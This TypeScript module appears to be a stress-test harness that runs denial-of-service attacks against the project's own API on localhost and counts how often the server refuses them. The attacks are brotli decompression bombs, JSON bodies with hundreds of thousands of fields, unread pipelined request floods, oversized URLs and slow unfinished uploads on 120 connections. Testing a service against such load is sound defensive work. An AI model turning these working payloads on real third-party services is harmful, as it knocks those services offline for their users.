import { request, type OutgoingHttpHeaders } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, constants } from 'node:zlib';
import { Counter, repeat, type Attack, type Victim } from './attack.js';

const REQUEST_TIMEOUT_MS = 6_000;

/** Sends one request on a separate connection; returns the status, or the code of the failure. */
export function send(
  { port }: Pick<Victim, 'port'>,
  method: string,
  path: string,
  options: { headers?: OutgoingHttpHeaders; body?: Buffer | string } = {},
): Promise<number | string> {
  return new Promise((resolve) => {
    const { headers = {}, body } = options;
    const length = body === undefined ? {} : { 'content-length': Buffer.byteLength(body) };
    const asking = request({ host: '127.0.0.1', port, method, path, headers: { ...headers, ...length }, agent: false });
    asking.on('response', (answer) => {
      answer.resume().on('close', () => resolve(answer.statusCode ?? 0));
    });
    asking.on('error', (error: NodeJS.ErrnoException) => resolve(error.code ?? 'error'));
    asking.setTimeout(REQUEST_TIMEOUT_MS, () => asking.destroy(Object.assign(new Error('late'), { code: 'late' })));
    asking.end(body);
  });
}

const json = (key?: string): OutgoingHttpHeaders => ({
  'content-type': 'application/json',
  ...(key === undefined ? {} : { authorization: `Bearer ${key}` }),
});

const isRefusal = (answer: number | string): boolean => typeof answer === 'string' || answer >= 400;

async function sendUntil(
  end: number,
  atOnce: number,
  next: (count: number) => Promise<number | string>,
): Promise<Counter> {
  const counter = new Counter();
  let count = 0;
  await repeat(end, atOnce, async () => {
    const answer = await next((count += 1));
    counter.note(answer, isRefusal(answer));
  });
  return counter;
}

const manyItems = (bytes: number): string => `{"items":[${'{},'.repeat(bytes / 3)}{}]}`;
const manyFields = (count: number): string =>
  `{${Array.from({ length: count }, (_, index) => `"field${index}":1`).join(',')}}`;

const PACKED_PATHS = ['/v1/ingest/tvl', '/v1/query/advanced', '/nowhere', '/v1/alerts/rules', '/'];

export const REQUEST_ATTACKS: readonly Attack[] = [
  {
    name: 'S1',
    does: 'bodies that unpack to megabytes, without a key, on every path',
    run: (victim, end) => {
      const packed = brotliCompressSync(manyItems(7_800_000), { params: { [constants.BROTLI_PARAM_QUALITY]: 2 } });
      return sendUntil(end, 4, (count) =>
        send(victim, 'POST', PACKED_PATHS[count % PACKED_PATHS.length] ?? '/', {
          headers: { ...json(), 'content-encoding': 'br' },
          body: packed,
        }),
      );
    },
  },
  {
    name: 'S2',
    does: 'objects of hundreds of thousands of unknown fields, with a key of the free tier',
    run: (victim, end) => {
      const body = manyFields(600_000);
      const [key] = victim.freeKeys;
      return sendUntil(end, 2, (count) =>
        count % 2 === 0
          ? send(victim, 'POST', '/v1/alerts/rules', { headers: json(key), body })
          : send(victim, 'PATCH', '/v1/alerts/preferences', { headers: json(key), body }),
      );
    },
  },
  {
    name: 'S3',
    does: 'a thousand requests for a document at once on one connection that reads nothing',
    run: async ({ port }, end) => {
      const counter = new Counter();
      await repeat(end, 2, async () => {
        const socket = connect(port, '127.0.0.1');
        const closed = new Promise<void>((resolve) => socket.on('close', () => resolve()).on('error', () => undefined));
        socket.pause();
        socket.write('GET /openapi.yaml HTTP/1.1\r\nHost: x\r\n\r\n'.repeat(1_000));
        await Promise.race([closed, sleep(2_000)]);
        counter.note(socket.destroyed ? 'closed' : 'open', socket.destroyed);
        socket.destroy();
      });
      return counter;
    },
  },
  {
    name: 'S5',
    does: 'addresses of 15,800 characters',
    run: (victim, end) => sendUntil(end, 4, () => send(victim, 'GET', `/${'a'.repeat(15_800)}`)),
  },
  {
    name: 'S8',
    does: '120 connections, each with an unfinished body of 7.9 MB, without a key',
    run: async ({ port }, end) => {
      const counter = new Counter();
      const part = Buffer.alloc(64 * 1_024, 0x20);
      const sockets = Array.from({ length: 120 }, (_, index) => {
        const socket = connect(port, '127.0.0.1').on('error', () => undefined);
        const path = PACKED_PATHS[index % PACKED_PATHS.length] ?? '/';
        socket.write(
          `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 8000000\r\n\r\n`,
        );
        let left = 120;
        const feed = (): void => {
          while (left > 0 && !socket.destroyed) {
            left -= 1;
            if (!socket.write(part)) return void socket.once('drain', feed);
          }
        };
        feed();
        return socket;
      });
      while (Date.now() < end) await sleep(100);
      for (const socket of sockets) {
        const isRefused = socket.destroyed || socket.bytesRead > 0;
        counter.note(isRefused ? 'refused' : 'open', isRefused);
        socket.destroy();
      }
      return counter;
    },
  },
];
